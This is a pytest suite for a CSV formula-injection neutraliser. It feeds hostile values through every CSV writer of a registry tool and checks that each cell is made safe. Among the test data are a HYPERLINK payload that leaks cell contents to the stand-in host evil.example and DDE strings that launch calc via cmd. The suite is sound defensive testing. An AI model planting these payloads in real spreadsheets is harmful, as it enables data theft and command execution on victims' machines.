"""Spreadsheet-safe CSV: the neutraliser's rule, and every CSV remit writes run through it.

The writers are exercised on a real registry: the example ``directory/`` copied into a
temporary folder with hostile text (formulas, DDE payloads, full-width and whitespace-led
forms, phones and negative numbers) in every text field that reaches a CSV file.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import itertools
import json
import re
import shutil
import subprocess
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from generator import model as m
from generator.checks.findings import run_checks
from generator.checks.report import CSV_FIELDS, report_output
from generator.cli import main
from generator.directory import Directory
from generator.load.registry import load
from generator.publish.csv_safe import (
    csv_bytes,
    csv_text,
    is_risky,
    mangled_as_number,
    neutralise,
)
from generator.publish.export import CSV_KINDS, csv_tables, export_bytes, export_files

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "directory"
TODAY = dt.date(2026, 1, 1)

HYPERLINK = '-1+HYPERLINK("http://evil.example/?x="&A1,"x")'
DDE = "+1+cmd|' /C calc'!A0"

# --- an independent statement of the rule, for checking written files -------------------

#: What a spreadsheet may take for the start of a formula: the ASCII operators and every
#: character NFKC folds into one (full-width, small forms), and the minus sign.
_OPERATORS = "=+-@"
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def formula_like(cell: str) -> bool:
    """Could a spreadsheet run this cell? (tab/CR/LF first, or an operator first after
    leading whitespace, unless the whole cell is a plain decimal number)."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    body = cell.lstrip().lstrip("\u200b\u200c\u200d\u2060\ufeff").lstrip()
    first = body[:1]
    if not first:
        return False
    if first != "\u2212" and unicodedata.normalize("NFKC", first)[:1] not in _OPERATORS:
        return False
    return not _PLAIN_NUMBER.fullmatch(cell)


def undo(cell: str) -> str:
    """The documented way back: drop one leading apostrophe."""
    return cell[1:] if cell.startswith("'") else cell


# --- the neutraliser --------------------------------------------------------------------

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n",
          "\uff1d", "\uff0b", "\uff0d", "\uff20",  # full-width ＝ ＋ － ＠
          "\ufe66", "\ufe62", "\ufe63", "\ufe6b",  # small ﹦ ﹢ ﹣ ﹫
          "\u2212"]  # minus sign −


@pytest.mark.parametrize("start", STARTS, ids=lambda s: f"U+{ord(s):04X}")
@pytest.mark.parametrize("rest", ["1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "x"])
def test_every_formula_start_gets_an_apostrophe(start: str, rest: str) -> None:
    cell = start + rest
    assert is_risky(cell)
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", [
    HYPERLINK, DDE,
    '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
    "-1+1", "+1", "-1-1", "--1", "-1e5", "-1,000", "- 3", "-3.", "-.5", "+3.5", "-3.5\n=1",
    "-", "+", "=", "@",
])
def test_payloads_and_near_numbers_are_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("lead", [" ", "  ", "\u3000", "\u00a0", "\u200b", "\ufeff",
                                  " \u200b "])
def test_whitespace_before_an_operator_does_not_hide_it(lead: str) -> None:
    # LibreOffice's CSV import with "Trim spaces" runs " =1+1" as a formula.
    for op in "=+-@\uff1d":
        assert neutralise(f"{lead}{op}1+1") == f"'{lead}{op}1+1"


@pytest.mark.parametrize("number", ["-3.5", "-12", "-0", "-0.001", "-100000000000000000000"])
def test_plain_negative_numbers_stay_raw(number: str) -> None:
    assert not is_risky(number)
    assert neutralise(number) == number


@pytest.mark.parametrize("phone", ["+86 851 0000 0001", "+86-851-0000-0001", "+86 (851) 0000",
                                   "-851-0000-0001", "+8685100000001"])
def test_phones_starting_with_an_operator_get_the_apostrophe(phone: str) -> None:
    # Excel and WPS read "+86-851-0000-0001" as arithmetic; as text every digit survives.
    assert neutralise(phone) == "'" + phone


@pytest.mark.parametrize("cell", [
    "", "企业服务中心", "综保区 D3 路", "保税大道西段北侧 K0+010", "0851-0000-0001",
    "(0851) 0000 0001", "（0851）0000-0001", "service-centre", "lamp-bs1-001", "2024-01-10",
    "3.5", "12", "https://example.org/a?b=c", "service@example.org", "5d", "a=b", "1+1",
    "《综合保税区管理办法》第八条", '{"type":"Point","coordinates":[106.6,26.6]}',
    "a\n=1+1", "路灯\n-1+1", "x\t=1", "1 =1", "＃1", "＊", "～1",
])
def test_ordinary_values_are_not_touched(cell: str) -> None:
    assert not is_risky(cell)
    assert neutralise(cell) == cell


@pytest.mark.parametrize("cell", ["13800000000", "08510000001", "0851", "00",
                                  "12345678901234567890"])
def test_digits_a_spreadsheet_would_change_get_the_apostrophe(cell: str) -> None:
    """A mobile number (11 digits: 1.38E+10 in Excel) or digits with a leading zero (the
    zero dropped) are written '13800000000: shown as text, every digit kept."""
    assert not is_risky(cell) and mangled_as_number(cell)
    assert neutralise(cell) == "'" + cell and undo(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["0", "12", "2024", "1380000000", "138 0000 0000",
                                  "0851-0000-0001", "13800000000a", "１３８００００００００"])
def test_numbers_a_spreadsheet_keeps_are_written_raw(cell: str) -> None:
    assert not mangled_as_number(cell)
    assert neutralise(cell) == cell


def test_a_leading_apostrophe_is_doubled_so_the_rule_can_be_undone() -> None:
    assert neutralise("'quoted") == "''quoted"
    assert neutralise("'=1+1") == "''=1+1"
    assert undo(neutralise("'=1+1")) == "'=1+1"


@given(st.text())
def test_neutralise_is_undone_by_dropping_one_apostrophe(cell: str) -> None:
    out = neutralise(cell)
    assert undo(out) == cell
    assert out == cell or out == "'" + cell
    assert not formula_like(out)


def test_csv_text_and_bytes() -> None:
    rows = [["a", "b", "c"], ["=1+1", None, -3], [HYPERLINK, 4, "x\ny"]]
    text = csv_text(rows)
    assert text.count("\r\n") == 3 and text.endswith("\r\n")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["a", "b", "c"], ["'=1+1", "", "-3"], ["'" + HYPERLINK, "4", "x\ny"]]
    assert csv_bytes(rows) == b"\xef\xbb\xbf" + text.encode("utf-8")
    assert csv_bytes(rows, bom=False) == text.encode("utf-8")


def test_only_the_shared_writer_writes_csv() -> None:
    """Any later table must go through generator/csv_safe.py too."""
    offenders = []
    for path in sorted((ROOT / "generator").rglob("*.py")):
        if path.name == "csv_safe.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\s*\(", text) or "from csv import" in text:
            offenders.append(path.name)
    assert not offenders, offenders


# --- a hostile copy of the example registry ---------------------------------------------

ONE_LINE = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', HYPERLINK, DDE,
            "@SUM(1+1)*cmd|' /C calc'!A0", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1",
            "\uff20SUM(1,2)", " =1+1", "\u3000-1+1", "-3.5", "+86 851 0000 0001",
            "'=1+1"]
#: one-line text cannot hold a tab or a line break (remit check refuses them): those
#: starts are tried in multi-line text
MULTI_LINE = [*ONE_LINE, "\t=1+1", "\n=1+1", "\r\n-1+1", "=1+1\n第二行"]
PHONES = ["+86 851 0000 0001", "-851-0000-0001", "+86-851-0000-0001"]
#: Text fields that are not free text: the finding an accepted gap names, a source's file,
#: the matter ids or duties a contact serves.
NOT_FREE_TEXT = {(m.AcceptedGap, "finding"), (m.AssetSource, "file"), (m.Contact, "serves")}


class _NoAliases(yaml.SafeDumper):
    def ignore_aliases(self, data: Any) -> bool:
        return True


class _Injector:
    def __init__(self) -> None:
        self.one = itertools.cycle(ONE_LINE)
        self.multi = itertools.cycle(MULTI_LINE)
        self.phones = itertools.cycle(PHONES)

    def text(self, kind: m.TextKind) -> str:
        return next(self.multi) if kind.multiline else next(self.one)

    def entity(self, doc: dict[str, Any], cls: type) -> None:
        for f in dataclasses.fields(cls):
            kind = f.metadata.get("kind")
            key = f.metadata.get("key") or f.name
            if kind is None or key not in doc or (cls, f.name) in NOT_FREE_TEXT:
                continue
            v = doc[key]
            if isinstance(kind, m.TextKind):
                doc[key] = self.text(kind)
            elif isinstance(kind, m.PhoneKind):
                doc[key] = next(self.phones)
            elif isinstance(kind, m.ObjKind) and isinstance(kind.of, type):
                self.entity(v, kind.of)
            elif isinstance(kind, m.ListKind) and isinstance(kind.of, type):
                for item in v:
                    self.entity(item, kind.of)
            elif isinstance(kind, m.ListKind) and isinstance(kind.of, m.TextKind):
                doc[key] = [self.text(kind.of) for _ in v]
            elif isinstance(kind, m.DutiesKind):
                for holder in v.values():
                    if isinstance(holder, dict):
                        holder["split"] = next(self.multi)
                        holder["basis"] = next(self.one)

    def document(self, doc: dict[str, Any]) -> None:
        if isinstance(doc.get("site"), dict):
            self.entity(doc["site"], m.Site)
        for section, cls in m.SECTIONS.items():
            for item in doc.get(section) or ():
                self.entity(item, cls)


def hostile_registry(dest: Path) -> Path:
    """The example registry with hostile text in every text field, every phone and the
    text columns of the lamp inventory."""
    shutil.copytree(EXAMPLE, dest)
    inj = _Injector()
    for path in [*sorted(dest.glob("*.yaml")), *sorted(dest.glob("cases/*.yaml"))]:
        doc = yaml.safe_load(path.read_text(encoding="utf-8"))
        inj.document(doc)
        path.write_text(yaml.dump(doc, Dumper=_NoAliases, allow_unicode=True, sort_keys=False),
                        encoding="utf-8")
    lamps = dest / "lamps.csv"
    with lamps.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        row["label"] = next(inj.one)
        row["location"] = next(inj.one)
    with lamps.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return dest


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Directory]:
    path = hostile_registry(tmp_path_factory.mktemp("hostile") / "directory")
    reg, diags = load(path)
    errors = [x for x in diags if x.severity == "error"]
    assert not errors, errors[:3]
    return path, Directory(reg, today=TODAY)


def _parse(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


# --- every CSV writer -------------------------------------------------------------------

Writer = Callable[[Path, Directory, pytest.CaptureFixture[str]], tuple[bytes | str,
                                                                       list[list[str]]]]


def _export(kind: str) -> Writer:
    def run(path: Path, d: Directory, capsys: pytest.CaptureFixture[str]
            ) -> tuple[bytes, list[list[str]]]:
        header, rows = csv_tables(d)[kind]
        return export_bytes(d, "csv")[f"csv/{kind}.csv"], [header, *rows]
    return run


def _site(kind: str) -> Writer:
    def run(path: Path, d: Directory, capsys: pytest.CaptureFixture[str]
            ) -> tuple[bytes, list[list[str]]]:
        out = {f.path: f.content for f in export_files(d)}
        header, rows = csv_tables(d)[kind]
        data = out[f"data/csv/{kind}.csv"]
        assert isinstance(data, bytes)
        return data, [header, *rows]
    return run


def _report_rows(d: Directory, lang: str, expand: bool) -> list[list[str]]:
    """The report's cells as they are, from its JSON form."""
    doc = json.loads(report_output(run_checks(d, TODAY), "json", lang, TODAY, expand=expand))
    return [list(CSV_FIELDS), *([("" if r[k] is None else str(r[k])) for k in CSV_FIELDS]
                                for r in doc["findings"])]


def _report(lang: str, expand: bool) -> Writer:
    def run(path: Path, d: Directory, capsys: pytest.CaptureFixture[str]
            ) -> tuple[str, list[list[str]]]:
        args = ["report", str(path), "--today", TODAY.isoformat(), "--format", "csv",
                "--lang", lang, *(["--expand"] if expand else [])]
        assert main(args) == 0
        return capsys.readouterr().out, _report_rows(d, lang, expand)
    return run


WRITERS: dict[str, Writer] = {
    **{f"export:{k}": _export(k) for k in CSV_KINDS},
    **{f"site:data/csv/{k}.csv": _site(k) for k in ("departments", "contacts", "duties")},
    "remit report --format csv": _report("zh", False),
    "remit report --format csv --lang en --expand": _report("en", True),
}


@pytest.mark.parametrize("writer", list(WRITERS))
def test_no_csv_writer_lets_a_formula_through(writer: str, hostile: tuple[Path, Directory],
                                              capsys: pytest.CaptureFixture[str]) -> None:
    path, d = hostile
    data, expected = WRITERS[writer](path, d, capsys)
    cells = _parse(data)
    assert len(cells) == len(expected) > 1, writer
    neutralised = 0
    for row, want in zip(cells, expected, strict=True):
        for cell, value in zip(row, want, strict=True):
            assert not formula_like(cell), f"{writer}: {cell!r} could run as a formula"
            assert undo(cell) == value, f"{writer}: {value!r} written as {cell!r}"
            neutralised += cell != value
    # the hostile text did reach this table, so the test is not vacuous
    assert neutralised, f"{writer}: no hostile cell reached the table"


def test_hostile_registry_reaches_every_export_table(hostile: tuple[Path, Directory]) -> None:
    _, d = hostile
    tables = csv_tables(d)
    for kind in CSV_KINDS:
        raw = [c for row in tables[kind][1] for c in row]
        assert any(formula_like(c) for c in raw), kind


def test_one_bom_policy(hostile: tuple[Path, Directory],
                       capsys: pytest.CaptureFixture[str]) -> None:
    """Every CSV remit writes starts with one UTF-8 byte-order mark: the export tables and
    remit report --format csv alike; --no-bom leaves it out, --bom is the default."""
    path, d = hostile
    for name, data in export_bytes(d, "csv").items():
        assert data.startswith(b"\xef\xbb\xbf") and data[3:4] != b"\xef", name
    base = ["report", str(path), "--today", TODAY.isoformat(), "--format", "csv"]
    assert main(base) == 0
    assert capsys.readouterr().out.startswith("\ufeffkind,title,")
    assert main([*base, "--bom"]) == 0
    assert capsys.readouterr().out.startswith("\ufeffkind,title,")
    assert main([*base, "--no-bom"]) == 0
    assert capsys.readouterr().out.startswith("kind,title,")


def test_example_registry_is_written_unchanged() -> None:
    """No cell of the example's exports or report is altered: Chinese text, ids, dates,
    phones written the usual way, coordinates."""
    reg, _ = load(EXAMPLE)
    d = Directory(reg, today=TODAY)
    files = export_bytes(d, "csv")
    for kind, (header, rows) in csv_tables(d).items():
        assert _parse(files[f"csv/{kind}.csv"]) == [header, *rows], kind
    report = report_output(run_checks(d, TODAY), "csv", "zh", TODAY, expand=True)
    assert _parse(report) == _report_rows(d, "zh", True)


# --- a real spreadsheet program, where there is one -------------------------------------

_OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
_T = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_O = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"


def _office_cells(csv_files: list[Path], out: Path) -> Iterator[tuple[str, ET.Element]]:
    """Open each CSV in LibreOffice Calc with "Evaluate formulas" and "Trim spaces" on (the
    most trusting import) and yield (file, cell) for every cell of the result."""
    assert _OFFICE
    # CSV filter: comma, double quote, UTF-8, line 1, default formats, en-US, quoted as
    # text off, detect special numbers on, -, -, trim spaces on, -, evaluate formulas on.
    filt = "CSV:44,34,76,1,,1033,false,true,false,false,true,-1,true"
    subprocess.run([_OFFICE, "--headless", "--norestore",
                    f"-env:UserInstallation={(out / 'profile').as_uri()}",
                    f"--infilter={filt}", "--convert-to", "fods", "--outdir", str(out),
                    *map(str, csv_files)], check=True, capture_output=True, timeout=300)
    for f in csv_files:
        root = ET.parse(out / (f.stem + ".fods")).getroot()
        for cell in root.iter(_T + "table-cell"):
            yield f.name, cell


@pytest.mark.skipif(_OFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_runs_no_formula_from_any_writer(hostile: tuple[Path, Directory],
                                                     tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]
                                                     ) -> None:
    path, d = hostile
    files = []
    for name, data in export_bytes(d, "csv").items():
        files.append(tmp_path / name.replace("/", "-"))
        files[-1].write_bytes(data)
    assert main(["report", str(path), "--today", TODAY.isoformat(), "--format", "csv"]) == 0
    files.append(tmp_path / "report.csv")
    files[-1].write_text(capsys.readouterr().out, encoding="utf-8")
    # the harness sees formulas: the same cells written raw
    raw = tmp_path / "raw.csv"
    raw.write_text("a\r\n=1+1\r\n =1+1\r\n-3.5\r\n", encoding="utf-8")
    files.append(raw)
    formulas: dict[str, list[str | None]] = {}
    numbers: dict[str, list[str | None]] = {}
    for name, cell in _office_cells(files, tmp_path):
        if cell.get(_T + "formula"):
            formulas.setdefault(name, []).append(cell.get(_T + "formula"))
        if cell.get(_O + "value-type") == "float":
            numbers.setdefault(name, []).append(cell.get(_O + "value"))
    assert formulas.pop("raw.csv") == ["of:=1+1", "of:=1+1"]
    assert numbers.pop("raw.csv") == ["2", "2", "-3.5"]
    assert not formulas, formulas
    # the plain negative number injected into text fields is read as a number
    assert any("-3.5" in v for v in numbers.values()), numbers
